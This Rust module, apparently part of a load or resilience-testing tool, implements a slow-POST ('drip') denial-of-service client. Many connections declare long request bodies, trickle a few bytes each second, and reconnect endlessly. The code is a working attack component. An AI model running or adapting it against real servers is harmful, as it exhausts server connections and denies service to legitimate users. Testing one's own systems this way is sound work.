//! Bodies that arrive so slowly that they are just not given up.

use std::{sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{interval, sleep},
};

use super::{
    Attack, PAUSE,
    connection::{Line, post_head, status},
    tally::Counters,
};

/// A body that drips.
#[derive(Clone, Debug)]
pub struct Drip {
    /// The address that it is sent to, below the server's.
    pub target: String,
    /// The token that goes with it.
    pub token: String,
    /// The length that the request declares.
    pub length: usize,
    /// Bytes per second.
    pub rate: usize,
}

impl Attack {
    /// Sends in `count` clients; the first sends the first of `drips`, the second the second, and
    /// so on in turn.
    pub fn dripping(&self, count: usize, drips: &Arc<Vec<Drip>>) {
        self.send_in(count, |number, line| come_again(number, line, Arc::clone(drips)));
    }
}

async fn come_again(number: usize, line: Arc<Line>, drips: Arc<Vec<Drip>>) {
    let drip = &drips[number % drips.len()];
    loop {
        if let Ok(stream) = line.connect(number).await {
            // Ends when the server has answered or ended it.
            let _ = send(stream, drip, &line).await;
            Counters::add(&line.counters.closed);
        }
        sleep(PAUSE).await;
    }
}

async fn send(mut stream: TcpStream, drip: &Drip, line: &Line) -> std::io::Result<()> {
    stream
        .write_all(&post_head(&drip.target, &drip.token, "application/json", drip.length))
        .await?;
    let (mut reading, mut writing) = stream.split();
    let (mut answer, piece) = ([0; 64], vec![b' '; drip.rate]);
    let mut clock = interval(Duration::from_secs(1));
    loop {
        tokio::select! {
            read = reading.read(&mut answer) => {
                let count = read?;
                line.counters.status(status(&answer[..count]).unwrap_or(400));
                return Ok(());
            }
            _ = clock.tick() => writing.write_all(&piece).await?,
        }
    }
}
